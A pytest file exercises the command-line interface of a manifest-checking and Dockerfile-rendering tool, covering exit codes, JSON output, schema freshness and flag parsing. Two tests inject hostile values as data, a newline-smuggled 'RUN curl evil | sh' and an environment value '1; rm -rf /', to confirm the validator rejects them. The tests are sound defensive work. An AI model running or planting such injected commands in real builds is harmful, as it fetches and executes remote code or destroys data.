"""The CLI end to end (in-process): exit codes, every-problem reporting, JSON outputs, schema freshness."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from skupin.builder.catalog.manifest import manifest_schema
from skupin.cli import main
from tests.paths import SKUS

CPU = SKUS / "cpu-x86_64.yaml"


def _write(tmp_path: Path, name: str, text: str) -> Path:
    path = tmp_path / f"{name}.yaml"
    path.write_text(text, encoding="utf-8")
    return path


def _cpu_text(name: str = "bad") -> str:
    return CPU.read_text().replace("name: cpu-x86_64", f"name: {name}")


def test_check_shipped_skus_exits_zero(capsys):
    assert main(["check", str(SKUS)]) == 0
    out = capsys.readouterr().out
    for path in SKUS.glob("*.yaml"):
        assert f"ok  {path.stem}" in out


def test_typo_wrong_type_and_newline_all_reported_with_exit_2(tmp_path, capsys):
    text = _cpu_text()
    text = text.replace("  hardware_class: cpu-x86_64", "  hardwre_class: cpu-x86_64")
    text = text.replace("batch_size: 8", "batch_size: many")
    text = text.replace("    version: 5.24.0", '    version: "5.24.0\\nRUN curl evil | sh"')
    path = _write(tmp_path, "bad", text)
    assert main(["check", str(path)]) == 2
    out = capsys.readouterr().out
    assert "accelerator.hardwre_class: unknown key; fix: did you mean 'hardware_class'?" in out
    assert "gate.batch_size:" in out
    assert "stack.engine.version: value carries a newline" in out


def test_shell_metacharacters_exit_2_and_nothing_rendered(tmp_path, capsys):
    text = _cpu_text().replace("OMP_NUM_THREADS: \"1\"", 'OMP_NUM_THREADS: "1; rm -rf /"')
    path = _write(tmp_path, "bad", text)
    assert main(["render", str(path)]) == 2
    captured = capsys.readouterr()
    assert "FROM" not in captured.out
    assert "runtime.env.OMP_NUM_THREADS" in captured.err


def test_incompatible_torch_and_triton_exit_3(tmp_path, capsys):
    h200 = SKUS / "nvidia-h200-vllm.yaml"
    if not h200.exists():
        pytest.skip("no H200 SKU")
    text = h200.read_text().replace("name: nvidia-h200-vllm", "name: bad")
    import yaml

    data = yaml.safe_load(text)
    data["stack"]["compiler"]["version"] = "3.1.0"
    path = _write(tmp_path, "bad", yaml.safe_dump(data))
    assert main(["check", str(path)]) == 3
    out = capsys.readouterr().out
    assert "stack.compiler.version" in out and "expected" in out


def test_render_prints_dockerfile(capsys):
    assert main(["render", "cpu-x86_64"]) == 0
    assert "FROM ${SKUPIN_BASE}" in capsys.readouterr().out


def test_unknown_sku_suggests(capsys):
    assert main(["render", "cpu-x86"]) == 2
    assert "did you mean 'cpu-x86_64'" in capsys.readouterr().err


def test_matrix_is_json_with_runner_labels(capsys):
    assert main(["matrix"]) == 0
    data = json.loads(capsys.readouterr().out)
    names = {e["sku"] for e in data["matrix"]["include"]} | {e["sku"] for e in data["excluded"]}
    assert names == {p.stem for p in SKUS.glob("*.yaml")}  # every SKU is either built or left out with a reason
    assert all(e["reason"] for e in data["excluded"])
    for entry in data["matrix"]["include"]:
        assert entry["hardware_class"] in entry["gate_runner"] or entry["vendor"] == "cpu"


def test_schema_is_json_and_committed_copy_is_fresh(capsys):
    assert main(["schema"]) == 0
    printed = json.loads(capsys.readouterr().out)
    assert printed == manifest_schema()
    committed = json.loads((SKUS / "schema.json").read_text())
    assert committed == printed, "skus/schema.json is stale: run `skupin schema --write`"


def test_building_the_cli_does_not_import_the_stages():
    """`skupin --help` stays fast: handlers import their stage (pydantic models, the index client,
    packaging) only when their command runs."""
    import subprocess
    import sys

    code = (
        "import sys; from skupin.cli import build_parser; build_parser(); "
        "print(sorted(m for m in ('skupin.releases.watch', 'skupin.releases.compat_refresh', 'skupin.clients.pypi', "
        "'skupin.clients.oci', 'skupin.clients.transport', 'skupin.publishing.local_registry', "
        "'skupin.builder.catalog.manifest', 'pydantic', 'packaging') if m in sys.modules))"
    )
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True).stdout
    assert out.strip() == "[]"


@pytest.mark.parametrize("command", [["matrix"], ["render", "cpu-x86_64"], ["schema"]])
def test_a_closed_pipe_ends_quietly_with_141_not_a_traceback(command):
    import subprocess
    import sys

    proc = subprocess.Popen([sys.executable, "-m", "skupin.cli", *command], stdout=subprocess.PIPE,
                            stderr=subprocess.PIPE, cwd=Path(__file__).resolve().parents[2])
    proc.stdout.close()  # the reader is gone before the first line (`skupin matrix | head -0`)
    with proc.stderr:
        err = proc.stderr.read().decode()
    assert proc.wait(timeout=60) == 141 and err == ""


def test_gate_parses_without_the_calibrate_only_float32_flag_and_calibrate_refuses_it_for_a_float32_sku(capsys):
    from skupin.cli import build_parser

    args = build_parser().parse_args(["gate", "cpu-x86_64"])
    assert not hasattr(args, "float32")  # a flag of `calibrate` only
    assert build_parser().parse_args(["calibrate", "nvidia-h200-vllm", "--float32"]).float32 is True
    # refused before any image or Docker engine is looked for
    assert main(["calibrate", "cpu-x86_64", "--float32"]) == 2
    assert "cpu-x86_64 serves float32: its gate has no separate float32 pass" in capsys.readouterr().err


def test_pull_and_verify_take_a_manifest_path_as_its_sku_name():
    from skupin.cli.publish import _sku_name

    assert _sku_name(str(SKUS / "cpu-x86_64.yaml")) == "cpu-x86_64"  # read from the manifest, not the path
    assert _sku_name("skus/cpu-x86_64.yaml") == "cpu-x86_64"
    assert _sku_name("cpu-x86_64") == "cpu-x86_64" and _sku_name(None) is None  # names need no catalog


def test_every_exit_code_is_documented_the_same_in_help_and_readme():
    """The exit codes the errors carry are the ones `skupin --help` and the README list, each meaning one thing."""
    import re

    import skupin.common.errors as errors
    from skupin.cli import EPILOG
    from tests.paths import REPO

    codes = {cls.exit_code: cls.__name__ for cls in vars(errors).values()
             if isinstance(cls, type) and issubclass(cls, errors.SkupinError) and cls is not errors.SkupinError}
    assert codes[2] in ("ManifestError", "UsageError", "CatalogError", "ImageRefError") and len(codes) == 12  # 2-11, 14, 15
    readme = (REPO / "README.md").read_text()
    help_codes = {int(c) for c in re.findall(r"\b(\d{1,3}) [a-zA-Z]", EPILOG.split("exit codes:")[1].split("the catalog")[0])}
    readme_codes = {int(c) for c in re.findall(r"\b(\d{1,3}) [a-zA-Z]", readme.split("Exit codes:")[1].split("`--traceback`")[0])}
    for code, name in codes.items():
        assert code in help_codes, f"{name} exits {code}, which `skupin --help` does not list"
        assert code in readme_codes, f"{name} exits {code}, which the README does not list"
    assert {0, 130, 141} <= help_codes and help_codes == readme_codes


def test_every_command_that_reports_has_json():
    """One grammar: each leaf command takes --json, except those whose only output already is JSON."""
    import argparse

    from skupin.cli import build_parser

    json_only = {"matrix", "schema", "calibrate"}  # they print JSON and nothing else

    def leaves(parser: argparse.ArgumentParser, prefix: tuple[str, ...] = ()):
        subs = [a for a in parser._actions if isinstance(a, argparse._SubParsersAction)]
        if not subs:
            yield prefix, parser
            return
        seen = set()
        for name, child in subs[0].choices.items():
            if id(child) in seen:  # an alias (`engine` for `docker`)
                continue
            seen.add(id(child))
            yield from leaves(child, (*prefix, name))

    missing = [" ".join(name) for name, parser in leaves(build_parser())
               if name[-1] not in json_only and "--json" not in parser._option_string_actions]
    assert missing == []


@pytest.mark.parametrize("argv, wanted", [
    (["docker", "up"], False),
    (["docker", "up", "--install-missing"], True),  # the form README's `(--install-missing installs docker.io)` suggests
    (["run", "cpu-x86_64", "--install-missing"], True),
    (["gate", "cpu-x86_64", "--install-missing"], True),
    (["build", "cpu-x86_64", "--install-missing"], True),
    (["--install-missing", "docker", "up"], True),
    (["registry", "up", "--install-missing"], True),
    (["base", "cpu-x86_64", "--install-missing"], True),
    (["--install-missing", "registry", "down"], True),  # a subcommand without its own flag keeps the global one
])
def test_install_missing_is_taken_before_or_after_the_commands_that_install(argv, wanted):
    from skupin.cli import build_parser

    assert build_parser().parse_args(argv).install_missing is wanted
